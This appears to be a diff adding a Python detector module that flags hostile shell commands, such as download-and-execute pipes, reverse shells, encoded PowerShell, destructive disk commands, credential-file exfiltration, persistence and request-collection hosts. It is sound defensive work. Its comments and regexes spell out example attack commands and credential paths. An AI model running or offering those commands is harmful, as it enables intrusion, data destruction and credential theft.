@@ -1,0 +1,540 @@
+"""Shell-execution and exfiltration patterns, shared by the checks that
+confirm a command (decode-then-confirm now; tool-call screening later).
+
+The API:
+
+* ``find_shell_threats(text, limit=4)``: the threats found in ``text``, at
+  most one per kind and ``limit`` in all, in the order of ``KINDS``;
+* ``first_shell_threat(text)``: the first of them, or ``None``;
+* ``ShellThreat(kind, description, snippet, start, end)``: ``snippet`` is
+  the matched text, ``start``/``end`` its offsets in the text the pattern
+  matched (``text`` itself, or its shell-canonical form when only that one
+  matched, see ``canonical_shell``);
+* ``KeywordGate`` / ``GatedPattern``: the machinery, reusable for other
+  pattern sets (decode-then-confirm uses it for instructions to the model);
+* ``SECRET_PATH``: a regex fragment for credential files (``~/.ssh``,
+  ``id_rsa``, ``~/.aws/credentials``, ``.env`` ...) and ``SECRET_KEYWORDS``,
+  lower-case literals one of which every match of it contains.
+
+The patterns describe *commands*, not topics: "curl piped to a shell", not
+"mentions curl". Each pattern is linear (character classes with bounded
+repeats; every window between two keywords is bounded, e.g. ``{0,300}``)
+and declares the keywords every match of it contains. One Aho-Corasick pass
+over the lower-cased text finds the keywords, and a pattern only runs in
+windows around its own keywords, so a long text without any keyword costs
+one automaton pass and nothing else. Each group says which attack it
+catches and which legitimate text it must not catch.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterable, Sequence
+
+import ahocorasick
+import attrs
+import regex
+
+__all__ = [
+    "KINDS",
+    "SECRET_KEYWORDS",
+    "SECRET_PATH",
+    "GatedPattern",
+    "KeywordGate",
+    "ShellThreat",
+    "canonical_shell",
+    "find_shell_threats",
+    "first_shell_threat",
+]
+
+_FLAGS = regex.IGNORECASE | regex.MULTILINE | regex.VERSION0
+
+#: Characters either side of a keyword a match may extend; every pattern's
+#: bounded windows add up to less than this.
+_REACH = 1000
+
+#: Threat kinds, in the order they are reported.
+KINDS = (
+    "download-execute",
+    "reverse-shell",
+    "encoded-powershell",
+    "destructive",
+    "secret-exfiltration",
+    "persistence",
+    "collection-host",
+)
+_DESCRIPTIONS = {
+    "download-execute": "downloads code and runs it",
+    "reverse-shell": "opens a reverse shell",
+    "encoded-powershell": "runs a base64-encoded PowerShell command",
+    "destructive": "destroys files or disks",
+    "secret-exfiltration": "reads a credential file and sends it",
+    "persistence": "installs a backdoor",
+    "collection-host": "names a request-collection or tunnel host",
+}
+
+
+@attrs.frozen
+class ShellThreat:
+    """One confirmed command: what kind, a readable description, the match."""
+
+    kind: str
+    description: str
+    snippet: str
+    start: int
+    end: int
+
+
+@attrs.frozen
+class GatedPattern:
+    """A pattern and the lower-case keywords one of which every match contains."""
+
+    kind: str
+    pattern: regex.Pattern[str]
+    keywords: tuple[str, ...]
+
+
+class KeywordGate:
+    """Runs patterns only around the keywords they need.
+
+    Built once (at import) from a sequence of ``GatedPattern``; immutable
+    afterwards, so one gate is safely shared by every scan and thread.
+    """
+
+    def __init__(self, patterns: Sequence[GatedPattern]) -> None:
+        self.patterns = tuple(patterns)
+        by_keyword: dict[str, list[int]] = {}
+        for index, gated in enumerate(self.patterns):
+            for keyword in gated.keywords:
+                by_keyword.setdefault(keyword, []).append(index)
+        self._automaton = ahocorasick.Automaton()
+        for keyword, indexes in by_keyword.items():
+            # A keyword that starts with a letter or digit must start a word
+            # ("nc" the command, not the "nc" in "function").
+            self._automaton.add_word(keyword, (len(keyword), keyword[0].isalnum(), tuple(indexes)))
+        self._automaton.make_automaton()
+
+    def windows(self, lowered: str) -> dict[int, list[tuple[int, int]]]:
+        """Pattern index -> merged [lo, hi) windows around its keywords."""
+        out: dict[int, list[tuple[int, int]]] = {}
+        size = len(lowered)
+        for end, (length, word_start, indexes) in self._automaton.iter(lowered):
+            start = end - length + 1
+            if word_start and start > 0 and lowered[start - 1].isalnum():
+                continue
+            lo, hi = max(0, start - _REACH), min(size, end + 1 + _REACH)
+            for index in indexes:
+                spans = out.setdefault(index, [])
+                if spans and lo <= spans[-1][1]:
+                    spans[-1] = (spans[-1][0], hi)
+                else:
+                    spans.append((lo, hi))
+        return out
+
+    def search(
+        self, text: str, lowered: str | None = None
+    ) -> Iterable[tuple[GatedPattern, regex.Match[str]]]:
+        """The first match of each pattern that matches, in pattern order.
+
+        ``lowered`` is ``text`` lower-cased with the same length (computed
+        when not given); keywords are looked up in it, patterns run on ``text``.
+        """
+        if lowered is None:
+            lowered = _same_length_lower(text)
+        windows = self.windows(lowered)
+        for index in sorted(windows):
+            gated = self.patterns[index]
+            for lo, hi in windows[index]:
+                match = gated.pattern.search(text, lo, hi)
+                if match is not None:
+                    yield gated, match
+                    break
+
+
+def _same_length_lower(text: str) -> str:
+    lowered = text.lower()
+    if len(lowered) == len(text):
+        return lowered
+    # A few characters lower-case to two ("İ"); fold only ASCII then, so
+    # offsets stay aligned with the original text.
+    return text.translate(_ASCII_LOWER)
+
+
+_ASCII_LOWER = {code: code + 32 for code in range(ord("A"), ord("Z") + 1)}
+
+
+def _gated(kind: str, pattern: str, *keywords: str) -> GatedPattern:
+    return GatedPattern(kind, regex.compile(pattern, _FLAGS), keywords)
+
+
+# An interpreter a downloaded script is piped into.
+_SHELL = r"(?:/usr/local/bin/|/usr/bin/|/bin/)?(?:ba|da|z|k|c|tc|fi|a)?sh\b"
+# A language interpreter runs its standard input only when given no script
+# argument (`| python3`, `| python3 -`); `| python -m json.tool` or `| perl
+# -ne '...'` treat the download as data and are left alone.
+_LANGUAGE = r"(?:python[\d.]*|perl|ruby|node|php)(?:\s+-)?(?=\s*(?:$|[;&|)\"'`]))"
+_INTERPRETER = rf"(?:{_SHELL}|{_LANGUAGE}|iex\b|invoke-expression|powershell|pwsh)"
+_FETCHERS = (
+    "curl",
+    "wget",
+    "fetch",
+    "iwr",
+    "irm",
+    "invoke-webrequest",
+    "invoke-restmethod",
+    "downloadstring",
+    "downloadfile",
+    "certutil",
+    "bitsadmin",
+)
+_FETCHER = r"\b(?:" + "|".join(_FETCHERS) + r")\b"
+
+# Download and execute. Catches `curl -fsSL URL | sudo bash`, `wget -qO- URL
+# | sh`, `bash -c "$(curl URL)"`, `sh <(wget -O- URL)`, `iex (iwr URL)`,
+# `IEX (New-Object Net.WebClient).DownloadString(URL)`, and the Windows
+# download helpers (certutil -urlcache, mshta URL, regsvr32 /i:URL, bitsadmin
+# /transfer). Must not catch: `curl URL -o file`, `curl URL | jq`, `curl -LO
+# URL && chmod +x tool` (how most CLI binaries are installed), `pip
+# install`, prose that says "install with curl".
+_DOWNLOAD_EXECUTE = (
+    _gated(
+        "download-execute",
+        rf"{_FETCHER}[^\n|]{{0,300}}\|\s*(?:sudo\s+(?:-\S+\s+){{0,3}})?(?:env\s+)?{_INTERPRETER}",
+        *_FETCHERS,
+    ),
+    _gated(
+        "download-execute",
+        r"\b(?:(?:ba|da|z|k)?sh|source|\.)\s+(?:-c\s+)?[\"']?(?:\$\(|<\(|`)\s*(?:curl|wget)\b",
+        "curl",
+        "wget",
+    ),
+    _gated(
+        "download-execute",
+        r"\b(?:iex|invoke-expression)\b[\s(&\"']{0,10}[^\n]{0,60}?"
+        r"\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|net\.webclient|downloadstring|curl|wget)\b",
+        "iex",
+        "invoke-expression",
+    ),
+    _gated("download-execute", r"\bcertutil(?:\.exe)?\s+[^\n]{0,40}?[-/]urlcache\b", "certutil"),
+    _gated(
+        "download-execute", r"\bmshta(?:\.exe)?\s+[\"']?(?:https?|javascript|vbscript):", "mshta"
+    ),
+    _gated(
+        "download-execute", r"\bregsvr32(?:\.exe)?\s+[^\n]{0,60}?/i:\s*[\"']?https?:", "regsvr32"
+    ),
+    _gated("download-execute", r"\bbitsadmin(?:\.exe)?\s+[^\n]{0,30}?/transfer\b", "bitsadmin"),
+    _gated(
+        "download-execute",
+        r"\bexec\s*\(\s*(?:__import__\(\s*[\"']urllib|urllib\.|requests\.get\s*\(|urlopen\s*\()",
+        "exec",
+    ),
+)
+
+# Reverse shells: a shell whose input and output go to a remote socket.
+# Catches `bash -i >& /dev/tcp/h/p 0>&1`, `nc -e /bin/sh h p`, `ncat --exec`,
+# `mkfifo f; sh -i < f | nc h p > f`, `socat TCP:h:p EXEC:sh`, `python -c`
+# with socket + dup2/pty/subprocess, `php -r` fsockopen, `ruby -rsocket`,
+# PowerShell TCPClient + GetStream. Must not catch: `nc -z host 80` (a port
+# check), `nc -C` (CRLF line ends, for SMTP tests), `socat` relaying two
+# ports, Python code that opens a socket without handing it a shell.
+_REVERSE_SHELL = (
+    _gated("reverse-shell", r"/dev/(?:tcp|udp)/[\w.\-]{1,253}/\d{1,5}", "/dev/tcp/", "/dev/udp/"),
+    _gated(
+        "reverse-shell",
+        r"\b(?:nc|ncat|netcat)(?:\.traditional|\.openbsd)?\b[^\n|;]{0,100}?"
+        r"(?-i:\s-[a-z]{0,4}[ec]\s+\S|\s--(?:exec|sh-exec|lua-exec)\b)",
+        "nc",
+        "ncat",
+        "netcat",
+    ),
+    _gated(
+        "reverse-shell",
+        r"\bmkfifo\b[^\n]{0,200}?\b(?:nc|ncat|netcat|telnet|openssl\s+s_client)\b",
+        "mkfifo",
+    ),
+    _gated(
+        "reverse-shell",
+        r"\b(?:ba|z|k|da)?sh\s+-i\s*(?:[0-9]?>&|&>|>\s*&|<>|2>&1\s*[|<>])",
+        "-i",
+    ),
+    _gated("reverse-shell", r"\bsocat\b[^\n]{0,200}?\b(?:exec|system):", "socat"),
+    _gated(
+        "reverse-shell",
+        r"\bpython[\d.]*\s+-c\s*[^\n]{0,400}?\bsocket\b[^\n]{0,400}?"
+        r"(?:\bdup2\b|\bpty\b|\bsubprocess\b|/bin/(?:ba)?sh\b)",
+        "python",
+    ),
+    _gated(
+        "reverse-shell",
+        r"\bperl\s+(?:-\S+\s+){0,3}-e\s*[^\n]{0,300}?\bsocket\b[^\n]{0,300}?\bexec\b",
+        "perl",
+    ),
+    _gated("reverse-shell", r"\bphp\s+-r\s*[^\n]{0,200}?\bfsockopen\s*\(", "php"),
+    _gated("reverse-shell", r"\bruby\s+-rsocket\b", "ruby"),
+    _gated(
+        "reverse-shell", r"\bnet\.sockets\.tcpclient\b[\s\S]{0,400}?\bgetstream\s*\(", "tcpclient"
+    ),
+    _gated("reverse-shell", r"\btelnet\s+\S+\s+\d{1,5}\s*\|\s*" + _SHELL, "telnet"),
+)
+
+# PowerShell with a base64 command: `powershell -nop -w hidden -enc SQBFAFgA`.
+# PowerShell accepts any unambiguous prefix of -EncodedCommand (-e, -ec,
+# -enc, -encodedc ...). Must not catch: `powershell -File script.ps1` or
+# `-ExecutionPolicy Bypass` (-ex is not -e followed by a blank).
+_ENCODED_POWERSHELL = (
+    _gated(
+        "encoded-powershell",
+        r"\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,160}?\s[-/]"
+        r"(?:ec|e(?:n(?:c(?:o(?:d(?:e(?:d(?:c(?:o(?:m(?:m(?:a(?:nd?)?)?)?)?)?)?)?)?)?)?)?)?)"
+        r"\s+[\"']?[A-Za-z0-9+/]{12,}",
+        "powershell",
+        "pwsh",
+    ),
+)
+
+# Destructive commands. Catches `rm -rf /`, `rm -rf ~`, `rm -rf /*`,
+# `rm -r -f $HOME`, `rm -rf --no-preserve-root /`, `mkfs.ext4 /dev/sda1`,
+# `dd if=/dev/zero of=/dev/sda`, `> /dev/sda`, fork bombs, `chmod -R 777 /`,
+# `shred /dev/sda`, `format C: /q`, `del /f /s /q C:\`, `rd /s /q C:\`,
+# `Remove-Item -Recurse -Force C:\`, `vssadmin delete shadows`. Must not
+# catch: `rm -rf ./build`, `rm -rf /tmp/cache`, `rm file`, `dd of=disk.img`.
+_RM_TARGET = r"(?:/\*?|~/?\*?|\$\{?HOME\}?/?\*?|\*)(?=$|[\s;&|\"'`)])"
+_DESTRUCTIVE = (
+    _gated(
+        "destructive",
+        r"\brm\s+(?=(?:-{1,2}[\w-]+\s+){0,4}-(?:[a-z]*r[a-z]*|-recursive)\s)"
+        rf"(?:-{{1,2}}[\w-]+\s+){{1,5}}{_RM_TARGET}",
+        "rm",
+    ),
+    _gated("destructive", r"\bmkfs(?:\.[a-z0-9]+)?\s+(?:-\S+\s+){0,4}/dev/", "mkfs"),
+    _gated(
+        "destructive",
+        r"\bdd\b[^\n]{0,120}?\bof=/dev/(?:sd[a-z]|hd[a-z]|nvme\d|xvd[a-z]|vd[a-z]|mmcblk\d|r?disk\d)",
+        "dd",
+    ),
+    _gated(
+        "destructive",
+        r"(?<![<0-9&])>\s*/dev/(?:sd[a-z]|hd[a-z]|nvme\d|xvd[a-z]|vd[a-z]|mmcblk\d)\b",
+        "/dev/",
+    ),
+    # `:(){ :|:& };:` and the same with a named function.
+    _gated(
+        "destructive",
+        r"(?P<bomb>:|\b\w{1,20})\(\)\s*\{\s*(?P=bomb)\s*\|\s*(?P=bomb)\s*&\s*\}\s*;\s*(?P=bomb)",
+        "()",
+    ),
+    _gated("destructive", r"\bchmod\s+(?:-\S+\s+){0,3}-R\s+[0-7]?777\s+/(?=$|[\s;&|])", "chmod"),
+    _gated("destructive", r"\bshred\b[^\n]{0,80}?/dev/(?:sd[a-z]|hd[a-z]|nvme\d)", "shred"),
+    _gated("destructive", r"\bformat(?:\.com)?\s+[a-z]:\s*/(?:q|y|fs:)", "format"),
+    _gated(
+        "destructive",
+        r"\b(?:del|erase)\s+(?:/[a-z]\s+){1,5}[\"']?[a-z]:\\\*?(?=$|[\s\"'])",
+        "del",
+        "erase",
+    ),
+    _gated("destructive", r"\b(?:rd|rmdir)\s+/s\s+/q\s+[\"']?[a-z]:\\(?=$|[\s\"'])", "rd", "rmdir"),
+    _gated(
+        "destructive",
+        r"\bremove-item\b[^\n]{0,80}?-recurse\b[^\n]{0,80}?[\"']?[a-z]:\\\*?(?=$|[\s\"'])",
+        "remove-item",
+    ),
+    _gated("destructive", r"\bvssadmin(?:\.exe)?\s+delete\s+shadows\b", "vssadmin"),
+)
+
+# Files whose content is a credential: SSH private keys and the ~/.ssh
+# directory, cloud and registry credentials, .env files, the shadow file,
+# shell histories. Public keys (id_rsa.pub) are not secrets.
+SECRET_PATH = (
+    r"(?:(?:~|\$\{?HOME\}?|%USERPROFILE%|\$env:USERPROFILE|/root|/home/[\w.-]{1,32})?"
+    r"[/\\]\.ssh\b"
+    r"|\bid_(?:rsa|dsa|ecdsa|ed25519)\b(?!\.pub)"
+    r"|\.aws[/\\](?:credentials|config)\b"
+    r"|(?<![\w.-])\.env(?:\.[a-z]{1,12})?\b"
+    r"|/etc/shadow\b|\.kube[/\\]config\b|\.docker[/\\]config\.json"
+    r"|\.netrc\b|\.npmrc\b|\.pypirc\b|\.git-credentials\b|\.config[/\\]gcloud\b"
+    r"|\.gnupg\b|\.(?:bash|zsh)_history\b|\.password-store\b)"
+)
+#: Literals one of which every SECRET_PATH match contains.
+SECRET_KEYWORDS = (
+    ".ssh",
+    "id_rsa",
+    "id_dsa",
+    "id_ecdsa",
+    "id_ed25519",
+    ".aws",
+    ".env",
+    "/etc/shadow",
+    ".kube",
+    ".docker",
+    ".netrc",
+    ".npmrc",
+    ".pypirc",
+    ".git-credentials",
+    "gcloud",
+    ".gnupg",
+    "_history",
+    ".password-store",
+)
+_SENDER = (
+    r"\b(?:curl|wget|nc|ncat|netcat|socat|telnet|invoke-webrequest|iwr|"
+    r"invoke-restmethod|irm|sendmail|mail|ftp|tftp)\b"
+)
+_SEND_VERB = r"\b(?:send|post|upload|exfiltrat\w*|transmit|forward|leak)\w*\b"
+_DESTINATION = r"\bto\s+[\"'<]?(?:https?://|ftp://|\S+@[\w-]+\.[\w.-]+)"
+
+# Reading a secret and sending it. Catches `cat ~/.ssh/id_rsa | curl -d @-
+# URL`, `curl -F f=@~/.aws/credentials URL`, `wget --post-file=.env URL`,
+# `scp ~/.ssh/id_rsa u@h:`, `nc h p < ~/.ssh/id_rsa`, Python reading a key and
+# posting it, and the instruction form "send the contents of ~/.ssh/id_rsa to
+# https://...". Must not catch: `ssh -i ~/.ssh/id_rsa host`, `scp -i
+# ~/.ssh/key file host:`, a config naming a key path and a URL, `cp
+# .env.example .env`.
+_SECRET_EXFILTRATION = tuple(
+    _gated("secret-exfiltration", pattern, *SECRET_KEYWORDS)
+    for pattern in (
+        rf"\b(?:cat|type|get-content|gc|base64|xxd|gzip|tar|zip)\b[^\n|;]{{0,100}}?{SECRET_PATH}"
+        rf"[^\n|;]{{0,100}}\|[^\n]{{0,200}}?{_SENDER}",
+        r"\b(?:curl|wget|invoke-webrequest|iwr|invoke-restmethod|irm)\b[^\n]{0,200}?"
+        r"(?:[\s=\"']@|--post-file[= ]|--body-file[= ]|--upload-file\s+|\s-T\s+|-infile\s+|"
+        r"\$\(\s*(?:cat|base64|xxd)\s+|\$\(<\s*|`cat\s+)"
+        rf"[\"']?[^\s\"']{{0,20}}?{SECRET_PATH}",
+        r"\b(?:scp|rsync)\s+(?:-[PlcoFJS]\s+\S+\s+|-(?!i\b)[a-zA-Z]+\s+){0,5}[\"']?"
+        rf"[^\s\"']{{0,40}}?{SECRET_PATH}\S*\s+\S*[\w.-]+:",
+        rf"\b(?:nc|ncat|netcat|socat|telnet)\b[^\n]{{0,100}}?<\s*[\"']?[^\s\"']{{0,40}}?{SECRET_PATH}",
+        rf"\bopen\s*\([^\n)]{{0,80}}?{SECRET_PATH}[\s\S]{{0,300}}?"
+        r"(?:(?:requests|httpx|session)\.(?:post|put)\s*\(|urlopen\s*\()",
+        rf"{_SEND_VERB}[^\n]{{0,80}}?{SECRET_PATH}[^\n]{{0,120}}?{_DESTINATION}",
+        rf"{SECRET_PATH}[^\n]{{0,120}}?{_SEND_VERB}[^\n]{{0,80}}?{_DESTINATION}",
+    )
+)
+
+# Persistence: adding an attacker's key to authorized_keys, or a cron entry
+# that fetches and runs code. Must not catch: reading authorized_keys.
+_PERSISTENCE = (
+    _gated(
+        "persistence",
+        r">>\s*[\"']?(?:~|\$\{?HOME\}?|/root|/home/[\w.-]{1,32})?/\.ssh/authorized_keys\b",
+        "authorized_keys",
+    ),
+    _gated(
+        "persistence",
+        r"\bcrontab\b[^\n]{0,200}?(?:curl|wget)\b[^\n]{0,200}?\|\s*" + _SHELL,
+        "crontab",
+    ),
+)
+
+# Services that exist to receive requests from anywhere and show them to
+# whoever made the URL: request bins, webhook testers, out-of-band
+# interaction catchers and public tunnels. Hosts whose names are also file
+# names or words (interact.sh is a script name; loca.lt, bore.pub, postb.in)
+# count only in a URL or after an "@". Must not catch the services' own
+# product sites (ngrok.com, pipedream.com) or a word like "webhook".
+_COLLECTION_HOSTS = (
+    "webhook.site",
+    "requestbin.com",
+    "requestbin.net",
+    "requestbin.io",
+    "pipedream.net",
+    "ngrok.io",
+    "ngrok.app",
+    "ngrok.dev",
+    "ngrok-free.app",
+    "ngrok-free.dev",
+    "oastify.com",
+    "oast.fun",
+    "oast.me",
+    "oast.live",
+    "oast.pro",
+    "oast.site",
+    "oast.online",
+    "burpcollaborator.net",
+    "trycloudflare.com",
+    "serveo.net",
+    "serveousercontent.com",
+    "localtunnel.me",
+    "localhost.run",
+    "lhr.life",
+    "pagekite.me",
+    "requestcatcher.com",
+    "hookbin.com",
+    "beeceptor.com",
+    "dnslog.cn",
+    "ceye.io",
+    "ptsv2.com",
+    "ptsv3.com",
+    "webhook.cool",
+    "requestrepo.com",
+)
+_URL_ONLY_HOSTS = ("interact.sh", "loca.lt", "bore.pub", "postb.in")
+_COLLECTION_HOST = (
+    _gated(
+        "collection-host",
+        r"(?<![\w-])(?:" + "|".join(regex.escape(h) for h in _COLLECTION_HOSTS) + r")(?![\w-])",
+        *_COLLECTION_HOSTS,
+    ),
+    _gated(
+        "collection-host",
+        r"(?:https?://|//|@)(?:[a-z0-9-]{1,63}\.){0,8}(?:"
+        + "|".join(regex.escape(h) for h in _URL_ONLY_HOSTS)
+        + r")(?![\w-])",
+        *_URL_ONLY_HOSTS,
+    ),
+)
+
+_PATTERNS = (
+    *_DOWNLOAD_EXECUTE,
+    *_REVERSE_SHELL,
+    *_ENCODED_POWERSHELL,
+    *_DESTRUCTIVE,
+    *_SECRET_EXFILTRATION,
+    *_PERSISTENCE,
+    *_COLLECTION_HOST,
+)
+_GATE = KeywordGate(_PATTERNS)
+
+# Shell quoting tricks that split a command word without changing what the
+# shell runs: `c''url`, `c"u"rl`, `c\url`, `${IFS}` for a space.
+_EMPTY_QUOTES = regex.compile(r"''|\"\"")
+_SPLIT_QUOTES = regex.compile(r"(?<=\w)([\"'])(\w{1,8})\1(?=\w)")
+_BACKSLASH_LETTER = regex.compile(r"(?<=\w)\\(?=[a-z])")
+_IFS = regex.compile(r"\$\{?IFS\}?")
+_TRICK_MARKERS = ("''", '""', "\\", "$IFS", "${IFS}", "'", '"')
+
+
+def canonical_shell(text: str) -> str:
+    """``text`` with the shell's word-splitting tricks undone (``c''url`` -> ``curl``)."""
+    text = _IFS.sub(" ", text)
+    text = _EMPTY_QUOTES.sub("", text)
+    text = _SPLIT_QUOTES.sub(r"\2", text)
+    return _BACKSLASH_LETTER.sub("", text)
+
+
+def _search(text: str, limit: int) -> list[ShellThreat]:
+    found: dict[str, ShellThreat] = {}
+    for gated, match in _GATE.search(text):
+        if gated.kind in found:
+            continue
+        found[gated.kind] = ShellThreat(
+            gated.kind, _DESCRIPTIONS[gated.kind], match.group(), match.start(), match.end()
+        )
+    return [found[kind] for kind in KINDS if kind in found][:limit]
+
+
+def find_shell_threats(text: str, limit: int = 4) -> Sequence[ShellThreat]:
+    """The shell or exfiltration threats in ``text``, at most one per kind.
+
+    The text is tried as given, then in its shell-canonical form; the first
+    form with any match wins, so offsets always refer to one text.
+    """
+    found = _search(text, limit)
+    if found:
+        return tuple(found)
+    if not any(marker in text for marker in _TRICK_MARKERS):
+        return ()
+    canonical = canonical_shell(text)
+    return tuple(_search(canonical, limit)) if canonical != text else ()
+
+
+def first_shell_threat(text: str) -> ShellThreat | None:
+    """The first threat ``find_shell_threats`` reports, or ``None``."""
+    found = find_shell_threats(text, limit=1)
+    return found[0] if found else None
